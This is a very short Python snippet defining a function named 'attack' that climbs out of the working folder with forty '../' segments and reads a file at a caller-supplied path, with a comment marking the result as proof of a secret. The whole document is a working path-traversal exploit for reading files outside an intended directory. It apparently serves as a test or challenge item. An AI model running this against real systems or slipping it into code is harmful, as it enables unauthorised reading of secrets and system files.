# Climbs out of the working folder with "..".
# proof: secret
def attack(arg):
    return open("../" * 40 + arg["public"].lstrip("/")).read()
